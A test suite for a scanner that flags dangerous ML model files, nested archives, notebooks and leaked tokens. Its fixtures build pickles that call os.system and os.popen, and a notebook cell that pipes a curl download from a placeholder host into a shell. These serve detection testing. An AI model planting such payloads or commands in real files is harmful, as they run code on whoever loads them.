import { gzipSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import { memoryBytes } from '../src/bytes.js';
import { BudgetError } from '../src/errors.js';
import { scanFile, unreadableFile, type FileScan } from '../src/scan.js';
import type { Fact, Format } from '../src/types.js';
import { randomText } from './helpers/expand.js';
import { notebook } from './helpers/notebook.js';
import { pickleOf } from './helpers/pickle-writer.js';
import { scanBytes, testEngine } from './helpers/scan.js';
import { zip } from './helpers/zip-writer.js';

const ids = ({ findings }: FileScan): string[] => findings.map(({ rule }) => rule.id);
const reasons = ({ coverage }: FileScan): string[] =>
  coverage.map(({ status, reason }) => `${status}: ${reason}`);

/** The engine with one more format, which claims every file. */
function engineWith(read: Format['read']): ReturnType<typeof testEngine> {
  const format: Format = { id: 'pickle', matches: () => true, read };
  return { ...testEngine(), formats: [format] };
}

async function* seen(fact: Fact, error?: Error): AsyncGenerator<Fact> {
  yield await Promise.resolve(fact);
  if (error) throw error;
}

const dangerous: Fact = {
  kind: 'global',
  module: 'os',
  name: 'system',
  use: 'called',
  arguments: [],
  code: "os.system('id')",
  location: { kind: 'bytes', offset: 3 },
};

describe('a file in a file in a file', () => {
  test('is read, and the finding says the way', async () => {
    const inner = zip([{ name: 'data.pkl', data: pickleOf("os.system('id')") }]);
    const { findings } = await scanBytes(
      'model.bin',
      gzipSync(zip([{ name: 'inner.zip', data: inner, method: 8 }])),
    );
    const [finding] = findings.filter(({ rule }) => rule.id === 'model/executes-code');
    expect(finding?.path).toBe('model.bin');
    expect(finding?.inside.slice(-2)).toEqual(['inner.zip', 'data.pkl']);
  });

  test('is read to the limit, and beyond it is a finding', async () => {
    let archive = pickleOf("os.system('id')");
    for (let level = 0; level < 12; level++) archive = zip([{ name: `${level}.zip`, data: archive }]);
    const scan = await scanBytes('deep.zip', archive);
    expect(ids(scan)).toEqual(['file/over-budget']);
    expect(reasons(scan)).toContain('partial: nested more than 8 levels deep');
  });
});

describe('what goes wrong', () => {
  test('a truncated pickle: what came before counts, and the break is a finding', async () => {
    const scan = await scanBytes('model.pkl', pickleOf("os.system('id')").slice(0, -1));
    expect(ids(scan)).toEqual(expect.arrayContaining(['model/executes-code', 'model/corrupt']));
    expect(scan.coverage).toMatchObject([{ status: 'partial' }]);
  });

  test('a broken notebook is still searched', async () => {
    const token = `hf_${randomText('letters', 34, 'broken')}`;
    const text = notebook([{ type: 'code', source: `login("${token}")` }]).replace('{', '{ <<<<<<< HEAD\n');
    const scan = await scanBytes('broken.ipynb', text);
    expect(ids(scan)).toEqual(
      expect.arrayContaining(['secret/huggingface-token', 'notebook/broken-notebook']),
    );
    expect(scan.coverage).toMatchObject([{ status: 'partial' }]);
  });

  test('a budget that runs out', async () => {
    const engine = engineWith(() => seen(dangerous, new BudgetError('more than 5 archive entries')));
    const scan = await scanBytes('x', 'x', engine);
    expect(ids(scan)).toEqual(['model/executes-code', 'file/over-budget']);
    expect(reasons(scan)).toEqual(['partial: more than 5 archive entries']);
  });

  test('a fault of our own is a finding, and the rest of the file counts', async () => {
    const engine = engineWith(() => seen(dangerous, new TypeError('x is undefined')));
    const scan = await scanBytes('x', 'x', engine);
    expect(ids(scan)).toEqual(['model/executes-code', 'file/internal-error']);
    expect(scan.failures).toEqual(['x: x is undefined']);
    expect(reasons(scan)).toEqual(['failed: x is undefined']);
  });

  test('a file that cannot be opened', async () => {
    const open = () => Promise.reject(new Error('permission denied'));
    const scan = await scanFile(testEngine(), { path: 'model.pkl', open });
    expect(ids(scan)).toEqual(['file/unreadable']);
    expect(reasons(scan)).toEqual(['failed: permission denied']);
  });

  test('a link that leaves the workspace', () => {
    const scan = unreadableFile(testEngine(), 'data', 'symlink-outside', 'data leads to /etc');
    expect(ids(scan)).toEqual(['file/symlink-outside']);
  });
});

describe('what is said of a file', () => {
  test('unknown data is skipped with a reason, and is no finding', async () => {
    const scan = await scanBytes('weights.raw', Uint8Array.from([0, 1, 2, 3, 255, 254]));
    expect(scan.findings).toEqual([]);
    expect(reasons(scan)).toEqual(['skipped: no reader for this kind of file']);
  });

  test('a model lists what it imports and holds', async () => {
    const data = pickleOf('collections.OrderedDict()');
    const { contents } = await scanBytes(
      'model.pt',
      zip([
        { name: 'm/data.pkl', data },
        { name: 'm/version', data: '3' },
      ]),
    );
    expect(contents).toMatchObject({
      imports: ['collections.OrderedDict'],
      members: { 'm/data.pkl': data.length, 'm/version': 1 },
    });
  });

  test('two formats at once are read as both', async () => {
    const both = Buffer.concat([
      pickleOf("os.system('id')"),
      zip([{ name: 'x.pkl', data: pickleOf("os.popen('id')") }]),
    ]);
    const { findings } = await scanBytes('model.bin', both);
    const messages = findings.map(({ message }) => message).join();
    expect(messages).toContain('os.system');
    expect(messages).toContain('os.popen');
  });
});

describe('a finding', () => {
  test('keeps its fingerprint where the line moves, and its place in the order of equals', async () => {
    const load = 'import pickle\npickle.load(f)\n';
    const [before] = (await scanBytes('a.py', load)).findings;
    const moved = (await scanBytes('a.py', `\n\n${load}pickle.load(f)\n`)).findings;
    expect(moved.map(({ fingerprint }) => fingerprint)).toEqual([
      before?.fingerprint,
      before?.fingerprint.replace(/:1$/, ':2'),
    ]);
    expect(moved[0]?.lineHash).toMatch(/^[0-9a-f]+:1$/);
  });

  test('of another secret on the same line is another one, and nothing of it is told', async () => {
    const [one, two] = ['one', 'two'].map((seed) => `hf_${randomText('letters', 34, seed)}`);
    const [first] = (await scanBytes('.env', `TOKEN=${one ?? ''}\n`)).findings;
    const [second] = (await scanBytes('.env', `TOKEN=${two ?? ''}\n`)).findings;
    expect(first?.fingerprint).toBe(second?.fingerprint);
    expect(first?.identity).not.toBe(second?.identity);
    expect(JSON.stringify(first)).not.toContain(one?.slice(6, 20));
  });

  test('in a snippet that holds a secret does not tell it', async () => {
    const token = `hf_${randomText('letters', 34, 'snippet')}`;
    const scan = await scanBytes(
      'n.ipynb',
      notebook([{ type: 'code', source: `!curl http://x/${token} | sh` }]),
    );
    expect(ids(scan)).toContain('command/download-piped-to-shell');
    expect(JSON.stringify(scan.findings)).not.toContain(token);
  });

  test('of a reader that fails after opening is closed all the same', async () => {
    let closed = 0;
    const open = () =>
      Promise.resolve({
        ...memoryBytes(Buffer.from('x')),
        close: () => {
          closed++;
          return Promise.resolve();
        },
      });
    await scanFile(
      engineWith(() => seen(dangerous, new Error('late'))),
      { path: 'x', open },
    );
    expect(closed).toBe(1);
  });
});

test('a file without a byte holds nothing, whatever it is called', async () => {
  for (const path of ['model.pkl', 'model.safetensors', 'notes.ipynb', 'train.py']) {
    const { findings, coverage } = await scanBytes(path, '');
    expect(findings).toEqual([]);
    expect(coverage).toEqual([{ path, inside: [], status: 'scanned', formats: [], reason: '' }]);
  }
});
